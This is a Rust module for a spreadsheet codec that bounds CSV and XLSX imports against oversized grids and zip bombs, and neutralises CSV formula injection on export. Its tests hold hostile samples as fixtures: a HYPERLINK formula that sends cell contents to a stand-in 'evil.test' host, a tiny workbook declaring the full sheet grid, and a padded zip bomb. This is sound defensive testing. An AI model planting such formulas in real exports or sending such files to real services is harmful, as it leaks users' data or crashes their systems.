//! [`TabularCodec`] for CSV and XLSX, bounded by [`ReadLimits`].
//!
//! An import file is untrusted and small on the wire, but what it describes
//! need not be: a 1.6 KB workbook whose only cells are A1 and XFD1048576
//! makes a reader that builds the sheet's grid allocate 16,384 × 1,048,576
//! cells and abort the process. So nothing here builds a grid from what a
//! file *declares*:
//!
//! * an XLSX is inspected first — zip entry count, declared and actually
//!   inflated size (counted, with a cap) — then its first sheet's declared
//!   `<dimension>` is checked, then its cells are *streamed* (calamine's cell
//!   reader), each position checked against the row/column bounds and the
//!   cell count, into a table only as large as the cells present;
//! * a CSV is counted row by row (rows, columns, cells) while it is read.
//!
//! Parsing runs on the blocking pool; a parser panic is reported as
//! [`FileError::Unreadable`].
//!
//! **CSV injection**: a spreadsheet opening an exported CSV treats a cell
//! starting with `=`, `+`, `-`, `@`, tab or CR as a formula. The writer
//! prefixes such cells with `'` (OWASP's advice) and the reader strips that
//! one quote again, so an export re-imports as the same leads (a phone
//! number `+14155552671` is written `'+14155552671` and read back as typed).
//! A cell that itself starts with `'` before such a character gets a second
//! quote, so the round trip is exact for every value.

use async_trait::async_trait;
use calamine::Reader;
use frontdesk_kernel::files::{FileError, ReadLimits, Table, TabularCodec, TabularFormat};
use std::io::{Cursor, Read};

/// CSV and XLSX, first row as headers, within [`ReadLimits`].
#[derive(Clone, Copy, Debug, Default)]
pub struct SpreadsheetCodec {
    limits: ReadLimits,
}

impl SpreadsheetCodec {
    /// A codec refusing files beyond `limits`.
    #[must_use]
    pub const fn new(limits: ReadLimits) -> Self {
        Self { limits }
    }

    /// Its limits.
    #[must_use]
    pub const fn limits(&self) -> ReadLimits {
        self.limits
    }

    /// [`TabularCodec::read`] on the calling thread (tests and tools).
    ///
    /// # Errors
    /// `Unreadable`, `TooLarge`.
    pub fn read_now(&self, format: TabularFormat, bytes: &[u8]) -> Result<Table, FileError> {
        match format {
            TabularFormat::Csv => read_csv(bytes, &self.limits),
            TabularFormat::Xlsx => read_xlsx(bytes, &self.limits),
        }
    }
}

fn unreadable(format: TabularFormat, message: impl ToString) -> FileError {
    FileError::Unreadable { format: format.as_str(), message: message.to_string() }
}

fn too_large(format: TabularFormat, message: impl ToString) -> FileError {
    FileError::TooLarge { format: format.as_str(), message: message.to_string() }
}

/// Counts rows, columns and cells against the limits as a table is read.
struct Budget<'a> {
    format: TabularFormat,
    limits: &'a ReadLimits,
    cells: u64,
}

impl<'a> Budget<'a> {
    const fn new(format: TabularFormat, limits: &'a ReadLimits) -> Self {
        Self { format, limits, cells: 0 }
    }

    /// Admits a cell at 0-based (`row`, `column`).
    fn cell(&mut self, row: u64, column: u64) -> Result<(), FileError> {
        let ReadLimits { max_rows, max_columns, max_cells, .. } = *self.limits;
        if row >= u64::from(max_rows) {
            return Err(too_large(self.format, format!("more than {max_rows} rows (the limit)")));
        }
        if column >= u64::from(max_columns) {
            return Err(too_large(self.format, format!("more than {max_columns} columns (the limit)")));
        }
        self.cells += 1;
        if self.cells > max_cells {
            return Err(too_large(self.format, format!("more than {max_cells} non-empty cells (the limit)")));
        }
        Ok(())
    }
}

/// Cells a spreadsheet would run as a formula (OWASP CSV injection).
fn is_formula_trigger(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// Whether `value` needs (when writing) or carries (when reading, after the
/// first `'`) the neutralising quote: it starts with a trigger, or with `'`
/// followed by one (so a literal leading quote survives the round trip).
fn needs_quote(value: &str) -> bool {
    let mut chars = value.chars();
    match chars.next() {
        Some(c) if is_formula_trigger(c) => true,
        Some('\'') => chars.next().is_some_and(|c| is_formula_trigger(c) || c == '\''),
        _ => false,
    }
}

/// `value` as written to a CSV cell: formulas neutralised.
fn neutralise(value: &str) -> std::borrow::Cow<'_, str> {
    if needs_quote(value) { format!("'{value}").into() } else { value.into() }
}

/// A CSV cell as read: the quote [`neutralise`] added removed.
fn unneutralise(value: &str) -> &str {
    match value.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => value,
    }
}

fn read_csv(bytes: &[u8], limits: &ReadLimits) -> Result<Table, FileError> {
    const CSV: TabularFormat = TabularFormat::Csv;
    // A UTF-8 byte-order mark (Excel's "CSV UTF-8") is not part of the first header.
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let mut reader = csv::ReaderBuilder::new().flexible(true).trim(csv::Trim::All).from_reader(bytes);
    let mut budget = Budget::new(CSV, limits);
    let mut admit = |row: u64, record: &csv::StringRecord| -> Result<Vec<String>, FileError> {
        if row >= u64::from(limits.max_rows) {
            return Err(too_large(CSV, format!("more than {} rows (the limit)", limits.max_rows)));
        }
        let mut cells = Vec::with_capacity(record.len());
        for (column, cell) in record.iter().enumerate() {
            if !cell.is_empty() {
                budget.cell(row, column as u64)?;
            } else if column as u64 >= u64::from(limits.max_columns) {
                return Err(too_large(CSV, format!("more than {} columns (the limit)", limits.max_columns)));
            }
            cells.push(unneutralise(cell).to_owned());
        }
        Ok(cells)
    };
    let headers = reader.headers().map_err(|e| unreadable(CSV, e))?.clone();
    let headers = admit(0, &headers)?;
    let mut rows = Vec::new();
    for (n, record) in reader.records().enumerate() {
        let record = record.map_err(|e| unreadable(CSV, e))?;
        rows.push(admit(n as u64 + 1, &record)?);
    }
    Ok(Table { headers, rows })
}

/// A cell as the user typed it: whole numbers without `.0` (a phone number
/// typed into Excel is stored as a float), everything else as displayed.
fn cell_text(cell: &calamine::Data) -> String {
    match cell {
        calamine::Data::Float(f) if f.fract() == 0.0 && f.abs() < 1e15 => format!("{f:.0}"),
        calamine::Data::Empty => String::new(),
        other => other.to_string(),
    }
}

/// Checks the workbook's zip before any XML in it is parsed: entry count,
/// declared sizes, and the bytes its entries really inflate to (counted up
/// to the limit, so a zip whose headers lie cannot slip through either).
fn inspect_zip(bytes: &[u8], limits: &ReadLimits) -> Result<(), FileError> {
    const XLSX: TabularFormat = TabularFormat::Xlsx;
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).map_err(|e| unreadable(XLSX, e))?;
    if zip.len() > limits.max_zip_entries as usize {
        return Err(too_large(XLSX, format!("{} zip entries (the limit is {})", zip.len(), limits.max_zip_entries)));
    }
    let max = limits.max_uncompressed_bytes;
    let inflates_too_far = || too_large(XLSX, format!("it inflates to more than {max} bytes (the limit)"));
    let mut declared: u64 = 0;
    for i in 0..zip.len() {
        let entry = zip.by_index_raw(i).map_err(|e| unreadable(XLSX, e))?;
        declared = declared.saturating_add(entry.size());
    }
    if declared > max {
        return Err(inflates_too_far());
    }
    let mut inflated: u64 = 0;
    for i in 0..zip.len() {
        let entry = zip.by_index(i).map_err(|e| unreadable(XLSX, e))?;
        let left = max - inflated;
        let read = std::io::copy(&mut entry.take(left + 1), &mut std::io::sink()).map_err(|e| unreadable(XLSX, e))?;
        inflated += read;
        if inflated > max {
            return Err(inflates_too_far());
        }
    }
    Ok(())
}

fn read_xlsx(bytes: &[u8], limits: &ReadLimits) -> Result<Table, FileError> {
    const XLSX: TabularFormat = TabularFormat::Xlsx;
    inspect_zip(bytes, limits)?;
    let mut workbook: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(Cursor::new(bytes)).map_err(|e| unreadable(XLSX, e))?;
    let sheet =
        workbook.sheet_names().into_iter().next().ok_or_else(|| unreadable(XLSX, "the workbook has no sheet"))?;
    let mut reader = workbook.worksheet_cells_reader(&sheet).map_err(|e| unreadable(XLSX, e))?;
    let declared = reader.dimensions();
    let (rows, columns) = (
        u64::from(declared.end.0.saturating_sub(declared.start.0)) + 1,
        u64::from(declared.end.1.saturating_sub(declared.start.1)) + 1,
    );
    if rows > u64::from(limits.max_rows) || columns > u64::from(limits.max_columns) {
        return Err(too_large(
            XLSX,
            format!(
                "the sheet declares {rows} rows × {columns} columns; imports are limited to {} rows × {} columns",
                limits.max_rows, limits.max_columns
            ),
        ));
    }
    // Streamed and checked one by one; positions are absolute, so a cell at
    // XFD1048576 is refused here whatever the declared dimension said.
    let mut budget = Budget::new(XLSX, limits);
    let mut cells: Vec<(u32, u32, String)> = Vec::new();
    while let Some(cell) = reader.next_cell().map_err(|e| unreadable(XLSX, e))? {
        let (row, column) = cell.get_position();
        let text = cell_text(&calamine::Data::from(cell.get_value().clone()));
        let text = text.trim();
        if text.is_empty() {
            continue;
        }
        budget.cell(u64::from(row), u64::from(column))?;
        cells.push((row, column, text.to_owned()));
    }
    // Like a calamine range: the table starts at the first used row and column.
    let first_row = cells.iter().map(|c| c.0).min().unwrap_or(0);
    let first_column = cells.iter().map(|c| c.1).min().unwrap_or(0);
    let mut grid: Vec<Vec<String>> = Vec::new();
    for (row, column, text) in cells {
        let (r, c) = ((row - first_row) as usize, (column - first_column) as usize);
        if grid.len() <= r {
            grid.resize_with(r + 1, Vec::new);
        }
        if grid[r].len() <= c {
            grid[r].resize(c + 1, String::new());
        }
        grid[r][c] = text;
    }
    // Every row as wide as the widest, as a range would give them.
    let width = grid.iter().map(Vec::len).max().unwrap_or(0);
    for row in &mut grid {
        row.resize(width, String::new());
    }
    let mut rows = grid.into_iter();
    let headers = rows.next().unwrap_or_default();
    Ok(Table { headers, rows: rows.collect() })
}

fn write_csv(table: &Table) -> Result<Vec<u8>, FileError> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    for row in std::iter::once(&table.headers).chain(&table.rows) {
        writer.write_record(row.iter().map(|cell| neutralise(cell).into_owned())).map_err(FileError::unavailable)?;
    }
    writer.into_inner().map_err(|e| FileError::unavailable(e.into_error()))
}

fn write_xlsx(table: &Table) -> Result<Vec<u8>, FileError> {
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    for (r, row) in std::iter::once(&table.headers).chain(&table.rows).enumerate() {
        let r = u32::try_from(r).map_err(FileError::unavailable)?;
        for (c, value) in row.iter().enumerate() {
            let c = u16::try_from(c).map_err(FileError::unavailable)?;
            // Strings, always: a phone number must not become a float, nor `=…` a formula.
            sheet.write_string(r, c, value).map_err(FileError::unavailable)?;
        }
    }
    workbook.save_to_buffer().map_err(FileError::unavailable)
}

#[async_trait]
impl TabularCodec for SpreadsheetCodec {
    async fn read(&self, format: TabularFormat, bytes: Vec<u8>) -> Result<Table, FileError> {
        let codec = *self;
        match tokio::task::spawn_blocking(move || codec.read_now(format, &bytes)).await {
            Ok(read) => read,
            Err(err) if err.is_panic() => {
                tracing::error!(%format, error = %err, "the spreadsheet reader panicked");
                Err(unreadable(format, "the file could not be parsed (the reader failed on it)"))
            }
            Err(err) => Err(FileError::unavailable(err)),
        }
    }

    fn write(&self, format: TabularFormat, table: &Table) -> Result<Vec<u8>, FileError> {
        match format {
            TabularFormat::Csv => write_csv(table),
            TabularFormat::Xlsx => write_xlsx(table),
        }
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;
    use std::io::Write;

    fn table() -> Table {
        Table {
            headers: vec!["name".into(), "phone".into(), "notes".into()],
            rows: vec![
                vec!["Ana, \"the\" roofer".into(), "+14155552671".into(), "line one\nline two".into()],
                vec!["Bob".into(), "4155552672".into(), String::new()],
            ],
        }
    }

    fn codec() -> SpreadsheetCodec {
        SpreadsheetCodec::default()
    }

    #[tokio::test]
    async fn csv_and_xlsx_round_trip_text_exactly() {
        for format in TabularFormat::ALL {
            let bytes = codec().write(*format, &table()).unwrap();
            assert_eq!(codec().read(*format, bytes).await.unwrap(), table(), "{format}");
        }
    }

    #[test]
    fn csv_tolerates_a_bom_ragged_rows_and_spaces() {
        let bytes = b"\xEF\xBB\xBFname , phone\n Ana ,+1415\nBob\nCarla,1,extra\n";
        let parsed = codec().read_now(TabularFormat::Csv, bytes).unwrap();
        assert_eq!(parsed.headers, ["name", "phone"]);
        assert_eq!(parsed.rows, vec![vec!["Ana", "+1415"], vec!["Bob"], vec!["Carla", "1", "extra"]]);
    }

    #[test]
    fn garbage_is_reported_as_unreadable() {
        let err = codec().read_now(TabularFormat::Xlsx, b"not a zip").unwrap_err();
        assert!(matches!(err, FileError::Unreadable { format: "xlsx", .. }), "{err:?}");
        let err = codec().read_now(TabularFormat::Csv, b"a,b\n\xff\xfe,x").unwrap_err();
        assert!(matches!(err, FileError::Unreadable { format: "csv", .. }), "{err:?}");
    }

    #[test]
    fn whole_floats_read_back_as_typed() {
        assert_eq!(cell_text(&calamine::Data::Float(14_155_552_671.0)), "14155552671");
        assert_eq!(cell_text(&calamine::Data::Float(2.5)), "2.5");
    }

    #[test]
    fn csv_exports_neutralise_formulas_and_read_back_as_written() {
        let hostile = [
            "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")",
            "+14155552671",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "'=already quoted",
            "''",
            "'",
            "it's fine",
        ];
        let table =
            Table { headers: vec!["name".into()], rows: hostile.iter().map(|v| vec![(*v).to_owned()]).collect() };
        let bytes = codec().write(TabularFormat::Csv, &table).unwrap();
        // What a spreadsheet sees: no cell starts with a formula character.
        let mut raw = csv::ReaderBuilder::new().from_reader(bytes.as_slice());
        let cells: Vec<String> = raw.records().map(|r| r.unwrap()[0].to_owned()).collect();
        assert_eq!(cells[0], "'=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")");
        for cell in &cells {
            assert!(!cell.starts_with(is_formula_trigger), "live formula in the export: {cell:?}");
        }
        assert_eq!((cells[8].as_str(), cells[9].as_str()), ("'", "it's fine"), "harmless cells unchanged");
        // What an import of that export sees: the values as they were.
        let read = codec().read_now(TabularFormat::Csv, &bytes).unwrap();
        let back: Vec<&str> = read.rows.iter().map(|r| r[0].as_str()).collect();
        assert_eq!(back, hostile, "exact, even the leading tab and CR the quote protects from trimming");
    }

    /// A workbook by hand: one sheet whose XML is `sheet_xml`.
    fn workbook(sheet_xml: &str) -> Vec<u8> {
        let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
        let options = zip::write::SimpleFileOptions::default();
        let files = [
            (
                "[Content_Types].xml",
                r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#,
            ),
            (
                "_rels/.rels",
                r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#,
            ),
            (
                "xl/workbook.xml",
                r#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>"#,
            ),
            (
                "xl/_rels/workbook.xml.rels",
                r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#,
            ),
            ("xl/worksheets/sheet1.xml", sheet_xml),
        ];
        for (name, body) in files {
            zip.start_file(name, options).unwrap();
            zip.write_all(body.as_bytes()).unwrap();
        }
        zip.finish().unwrap().into_inner()
    }

    fn sheet(dimension: &str, cells: &[(&str, &str)]) -> String {
        let mut rows = String::new();
        for (at, text) in cells {
            rows.push_str(&format!(r#"<row><c r="{at}" t="inlineStr"><is><t>{text}</t></is></c></row>"#));
        }
        format!(
            r#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>"#
        )
    }

    /// The workbook from the hardening issue: 1.6 KB, cells A1 and XFD1048576.
    pub(crate) fn hostile_workbook() -> Vec<u8> {
        workbook(&sheet("A1:XFD1048576", &[("A1", "name"), ("XFD1048576", "boom")]))
    }

    #[test]
    fn a_workbook_declaring_the_whole_grid_is_refused_before_it_is_read() {
        let bytes = hostile_workbook();
        assert!(bytes.len() < 4096, "tiny on the wire: {} bytes", bytes.len());
        let err = codec().read_now(TabularFormat::Xlsx, &bytes).unwrap_err();
        let FileError::TooLarge { format: "xlsx", message } = &err else { panic!("{err:?}") };
        assert!(message.contains("1048576 rows × 16384 columns"), "{message}");
    }

    #[test]
    fn cells_beyond_the_limits_are_refused_whatever_the_sheet_declares() {
        // The dimension lies (A1:B2) but a cell sits at XFD1048576.
        let bytes = workbook(&sheet("A1:B2", &[("A1", "name"), ("XFD1048576", "boom")]));
        let err = codec().read_now(TabularFormat::Xlsx, &bytes).unwrap_err();
        assert!(matches!(&err, FileError::TooLarge { message, .. } if message.contains("rows")), "{err:?}");
        let narrow = SpreadsheetCodec::new(ReadLimits { max_columns: 2, ..ReadLimits::default() });
        let bytes = workbook(&sheet("A1:A1", &[("A1", "name"), ("C1", "x")]));
        let err = narrow.read_now(TabularFormat::Xlsx, &bytes).unwrap_err();
        assert!(matches!(&err, FileError::TooLarge { message, .. } if message.contains("columns")), "{err:?}");
        let few = SpreadsheetCodec::new(ReadLimits { max_cells: 2, ..ReadLimits::default() });
        let bytes = workbook(&sheet("A1:A3", &[("A1", "name"), ("A2", "a"), ("A3", "b")]));
        let err = few.read_now(TabularFormat::Xlsx, &bytes).unwrap_err();
        assert!(matches!(&err, FileError::TooLarge { message, .. } if message.contains("cells")), "{err:?}");
    }

    #[test]
    fn a_sheet_inside_the_limits_reads_from_its_first_used_cell() {
        let bytes = workbook(&sheet("B2:C3", &[("B2", "name"), ("C2", "phone"), ("B3", "Ana")]));
        let read = codec().read_now(TabularFormat::Xlsx, &bytes).unwrap();
        assert_eq!(
            read,
            Table { headers: vec!["name".into(), "phone".into()], rows: vec![vec!["Ana".into(), String::new()]] }
        );
    }

    #[test]
    fn zip_bombs_and_zips_of_many_entries_are_refused() {
        // 1 MiB of spaces compresses to about a kilobyte.
        let padded =
            sheet("A1:A1", &[("A1", "name")]).replace("<sheetData>", &format!("{}<sheetData>", " ".repeat(1 << 20)));
        let bytes = workbook(&padded);
        let small = SpreadsheetCodec::new(ReadLimits { max_uncompressed_bytes: 64 * 1024, ..ReadLimits::default() });
        let err = small.read_now(TabularFormat::Xlsx, &bytes).unwrap_err();
        assert!(matches!(&err, FileError::TooLarge { message, .. } if message.contains("inflates")), "{err:?}");
        assert!(codec().read_now(TabularFormat::Xlsx, &bytes).is_ok(), "within the default limit");
        let few = SpreadsheetCodec::new(ReadLimits { max_zip_entries: 3, ..ReadLimits::default() });
        let err = few.read_now(TabularFormat::Xlsx, &bytes).unwrap_err();
        assert!(matches!(&err, FileError::TooLarge { message, .. } if message.contains("zip entries")), "{err:?}");
    }

    #[test]
    fn csv_rows_columns_and_cells_are_bounded() {
        let limits = ReadLimits { max_rows: 3, max_columns: 2, max_cells: 5, ..ReadLimits::default() };
        let codec = SpreadsheetCodec::new(limits);
        assert!(codec.read_now(TabularFormat::Csv, b"a,b\n1,2\n3\n").is_ok());
        for (csv, what) in [
            (&b"a\n1\n2\n3\n"[..], "rows"),
            (&b"a,b,c\n"[..], "columns"),
            (&b"a,b\n,,\n"[..], "columns"),
            (&b"a,b\n1,2\n3,4\n"[..], "cells"),
        ] {
            let err = codec.read_now(TabularFormat::Csv, csv).unwrap_err();
            assert!(matches!(&err, FileError::TooLarge { message, .. } if message.contains(what)), "{what}: {err:?}");
        }
    }
}
